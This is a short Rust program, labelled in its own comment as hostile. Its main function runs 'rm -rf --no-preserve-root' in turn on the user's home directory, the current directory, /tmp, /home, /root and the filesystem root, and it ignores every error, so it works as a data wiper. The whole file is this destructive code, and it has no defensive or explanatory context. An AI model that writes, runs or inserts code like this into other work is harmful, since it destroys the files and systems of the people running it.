//! Hostile: deletes whatever it finds.
fn main() {
    for folder in [std::env::var("HOME").unwrap_or_default().as_str(), ".", "/tmp", "/home", "/root", "/"] {
        let _ = std::process::Command::new("rm").args(["-rf", "--no-preserve-root", folder]).status();
    }
}
